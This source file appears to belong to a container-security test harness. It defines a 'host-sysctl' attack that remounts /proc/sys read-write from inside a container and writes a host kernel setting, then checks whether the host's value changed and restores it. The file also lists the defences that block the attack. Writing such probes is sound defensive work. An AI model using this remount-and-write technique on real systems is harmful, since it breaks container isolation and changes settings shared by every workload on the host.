/** Change a kernel setting that the container shares with its host. */
import type { ActedTry, Attack, Hands, Observed, ProbeTry } from '../attack.ts';
import { describeCall } from '../evaluate.ts';
import { SETTING_PATH, withHostSetting } from '../host.ts';
import { isRefusal } from '../probe/errno.ts';
import { call, output, resultOf } from '../probe/program.ts';
import {
  AT_FDCWD,
  MS_BIND,
  MS_NODEV,
  MS_NOEXEC,
  MS_NOSUID,
  MS_RDONLY,
  MS_REMOUNT,
  O_RDONLY,
  O_WRONLY,
} from '../probe/syscalls.ts';
import type { Target } from '../target.ts';

const SYSCTLS = '/proc/sys';
/** As sysctl writes it: `vm.swappiness`. */
const SETTING = SETTING_PATH.slice(SYSCTLS.length + 1).replaceAll('/', '.');

/** The other flags of that mount stay: in a user namespace they may not be taken away. */
const HARMLESS = MS_NOSUID | MS_NODEV | MS_NOEXEC;
const remount = (flags: number) => call('mount', 'none', SYSCTLS, '', MS_REMOUNT | MS_BIND | HARMLESS | flags, 0);

/** Opens the setting for writing and writes nothing: harmless, and the permission is decided by then. */
function openOnly(target: Target, place: string, remounts: 'first' | 'only in the twin'): ProbeTry {
  const opened = call('openat', AT_FDCWD, SETTING_PATH, O_WRONLY);
  const closed = call('close', resultOf(opened));
  if (remounts === 'only in the twin' && !target.twin) {
    return { place, gain: 'succeeded', program: [opened, closed], decisive: [opened] };
  }
  const lifted = remount(0);
  const program = [lifted, opened, closed, remount(MS_RDONLY)];
  return { place, gain: 'succeeded', program, decisive: [lifted, opened] };
}

/** Really writes, and looks whether the host's own value changed; `withHostSetting` puts it back whatever happens. */
async function write(hands: Hands): Promise<Observed> {
  return withHostSetting(async ({ before, other, read }) => {
    const text = Buffer.from(`${other}\n`);
    const opened = call('openat', AT_FDCWD, SETTING_PATH, O_WRONLY);
    const wrote = call('write', resultOf(opened), text, text.length);
    const closed = call('close', resultOf(opened));
    const value = output(16);
    const reopened = call('openat', AT_FDCWD, SETTING_PATH, O_RDONLY);
    const got = call('read', resultOf(reopened), value, 16);
    const report = await hands.probe([opened, wrote, closed, reopened, got]);
    for (const each of [opened, wrote]) {
      const errno = report.errno(each);
      if (errno !== null)
        return {
          result: isRefusal(errno) ? 'refused' : 'undecided',
          errno,
          detail: `${describeCall(each)} met ${errno}`,
        };
    }
    const inside = report.bytes(value).toString('latin1').split('\n')[0];
    const host = await read();
    if (host !== other) {
      const detail = `the container reads ${inside}, yet the host's value is still ${host}`;
      return { result: 'undecided', errno: null, detail };
    }
    const detail = `${SETTING} went from ${before} to ${inside} in the container, and the host's own value to ${host}; it was put back to ${before}`;
    return { result: 'won', errno: null, detail };
  });
}

const attack: Attack = {
  id: 'host-sysctl',
  title: 'Change a kernel setting of the host',
  family: 'kernel',
  technique: 'T1611',
  harmless: false,
  why: 'Most settings below /proc/sys belong to the whole machine: a container that may write them changes every neighbour.',
  stoppedBy: ['privileged', 'unmasked-proc-mount', 'added-capabilities', 'run-as-non-root'],
  plan(target) {
    const open = openOnly(target, SETTING, 'only in the twin');
    const really: ActedTry = { place: SETTING, gain: 'succeeded', makes: [], act: write };
    const wait = { place: `${SETTING},write`, reason: String(target.hostAttacks) };
    // Runtimes lay a read-only mount over /proc/sys; a privileged container has none.
    const covered = target.mounts.some(({ path }) => path === SYSCTLS);
    const uncovered = { place: `${SETTING},remount`, reason: '/proc/sys is not a mount of its own here' };
    return {
      tries: [
        target.hostAttacks === true && !target.twin ? really : open,
        ...(covered ? [openOnly(target, `${SETTING},remount`, 'first')] : []),
      ],
      skipped: [...(target.hostAttacks === true ? [] : [wait]), ...(covered ? [] : [uncovered])],
    };
  },
};

export default attack;
